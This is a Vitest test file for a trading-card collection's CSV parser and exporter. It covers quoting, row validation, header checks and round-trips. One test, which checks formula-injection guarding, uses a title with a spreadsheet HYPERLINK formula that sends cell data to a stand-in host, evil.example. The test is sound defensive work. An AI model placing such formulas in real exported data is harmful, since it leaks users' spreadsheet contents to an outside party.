import { describe, expect, it } from 'vitest';
import type { CollectionItem } from '../../lib/collection/collection-item';
import { collectionCsv, parseCollectionCsv, parseCsvRecords } from './collection-csv';

const TODAY = '2026-11-27';
const HEADER = 'title,grade,quantity,cost,acquired,note';

const item = (over: Partial<CollectionItem>): CollectionItem => ({
  id: 'x',
  title: '1999 Pokemon Base Set Charizard Holo #4',
  grade: 'PSA 10',
  quantity: 1,
  cost: null,
  acquired: null,
  note: '',
  ...over,
});

describe('parseCsvRecords', () => {
  it('reads quoted fields with commas, doubled quotes and line ends, and the line each record starts on', () => {
    const text = 'a,b\n"x, y","say ""hi"""\r\n"two\nlines",z\n\nlast,1';
    const { records, unterminated } = parseCsvRecords(text);
    expect(unterminated).toBeNull();
    expect(records).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['x, y', 'say "hi"'] },
      { line: 3, fields: ['two\nlines', 'z'] },
      { line: 6, fields: ['last', '1'] },
    ]);
  });

  it('reports a quote left open with the line its record starts on', () => {
    expect(parseCsvRecords('a,b\n"open,1\n2').unterminated).toBe(2);
  });
});

describe('parseCollectionCsv', () => {
  it('reads a clean file into drafts: grades made canonical, empty cost and date as null', () => {
    const text = `${HEADER}\nBase Charizard,psa10,2,120.50,2026-03-01,"from a show, mint"\nPikachu Promo,Raw,1,,,\n`;
    const parsed = parseCollectionCsv(text, TODAY);
    expect(parsed.problems).toEqual([]);
    expect(parsed.rows).toEqual([
      {
        line: 2,
        draft: {
          title: 'Base Charizard',
          grade: 'PSA 10',
          quantity: 2,
          cost: 120.5,
          acquired: '2026-03-01',
          note: 'from a show, mint',
        },
      },
      {
        line: 3,
        draft: { title: 'Pikachu Promo', grade: 'Raw', quantity: 1, cost: null, acquired: null, note: '' },
      },
    ]);
  });

  it('names each bad row by its line and why', () => {
    const text = [
      HEADER,
      'Good Card,PSA 9,1,,,',
      'Bad Grade,PSA 11,1,,,',
      'Bad Quantity,BGS 9.5,two,,,',
      'Zero Quantity,BGS 9.5,0,,,',
      'Bad Cost,CGC 10,1,$12,,',
      'Bad Date,SGC 10,1,5,2026-02-30,',
      'Future Date,SGC 10,1,5,2027-01-01,',
      'Short Row,PSA 10,1',
      ',PSA 10,1,,,',
    ].join('\n');
    const parsed = parseCollectionCsv(text, TODAY);
    expect(parsed.rows.map((row) => row.line)).toEqual([2]);
    expect(parsed.problems.map((p) => [p.line, p.title])).toEqual([
      [3, 'Bad Grade'],
      [4, 'Bad Quantity'],
      [5, 'Zero Quantity'],
      [6, 'Bad Cost'],
      [7, 'Bad Date'],
      [8, 'Future Date'],
      [9, 'Short Row'],
      [10, ''],
    ]);
    expect(parsed.problems[0]?.message).toMatch(/unknown grade "PSA 11"/);
    expect(parsed.problems[1]?.message).toMatch(/bad quantity "two"/);
    expect(parsed.problems[2]?.message).toMatch(/from 1 to/);
    expect(parsed.problems[3]?.message).toMatch(/bad cost "\$12"/);
    expect(parsed.problems[4]?.message).toMatch(/YYYY-MM-DD/);
    expect(parsed.problems[5]?.message).toMatch(/not after 2026-11-27/);
    expect(parsed.problems[6]?.message).toMatch(/3 fields/);
    expect(parsed.problems[7]?.message).toMatch(/title is empty/);
  });

  it('refuses a file without the header, importing nothing', () => {
    const parsed = parseCollectionCsv('name,grade\nX,PSA 10\n', TODAY);
    expect(parsed.rows).toEqual([]);
    expect(parsed.problems).toEqual([
      { line: 1, title: '', message: `the first line must be the header ${HEADER}` },
    ]);
  });
});

describe('collectionCsv', () => {
  it('writes the header and quotes only what must be quoted', () => {
    const csv = collectionCsv([
      item({ quantity: 2, cost: 120.5, acquired: '2026-03-01', note: 'show, "mint"' }),
      item({ grade: 'Raw', note: 'line\nbreak' }),
    ]);
    expect(csv).toBe(
      `${HEADER}\r\n1999 Pokemon Base Set Charizard Holo #4,PSA 10,2,120.5,2026-03-01,"show, ""mint"""\r\n` +
        '1999 Pokemon Base Set Charizard Holo #4,Raw,1,,,"line\nbreak"\r\n',
    );
  });

  it('round-trips: export, import, export is the same bytes', () => {
    const items = [
      item({ quantity: 3, cost: 99.99, acquired: '2025-12-31', note: 'a, b "c"\nd' }),
      item({ title: 'Pikachu Illustrator', grade: 'BGS 9.5', cost: 0 }),
    ];
    const first = collectionCsv(items);
    const parsed = parseCollectionCsv(first, TODAY);
    expect(parsed.problems).toEqual([]);
    const again = collectionCsv(parsed.rows.map((row) => ({ id: 'y', ...row.draft })));
    expect(again).toBe(first);
  });

  it('guards titles and notes that would run as formulas, and the import takes the guard off: the same bytes again', () => {
    const items = [
      item({ title: '=HYPERLINK("http://evil.example/?x="&A1,"Charizard")', note: '=1+1' }),
      item({ title: '+Charizard Holo', note: '+41 1234' }),
      item({ title: '-Charizard Holo', note: '- mint corners', cost: 12.5 }),
      item({ title: '@Charizard Holo', note: '@SUM(A1:A9)', quantity: 2 }),
      item({ title: "'=Charizard Holo", note: '\tindented' }),
    ];
    const first = collectionCsv(items);
    expect(first.split('\r\n').slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Charizard"")",PSA 10,1,,,'=1+1`,
      "'+Charizard Holo,PSA 10,1,,,'+41 1234",
      "'-Charizard Holo,PSA 10,1,12.5,,'- mint corners",
      "'@Charizard Holo,PSA 10,2,,,'@SUM(A1:A9)",
      "''=Charizard Holo,PSA 10,1,,,'\tindented",
    ]);
    const parsed = parseCollectionCsv(first, TODAY);
    expect(parsed.problems).toEqual([]);
    expect(parsed.rows.map((row) => [row.draft.title, row.draft.note])).toEqual(
      items.map((one) => [one.title, one.note]),
    );
    const again = collectionCsv(parsed.rows.map((row) => ({ id: 'y', ...row.draft })));
    expect(again).toBe(first);
  });
});
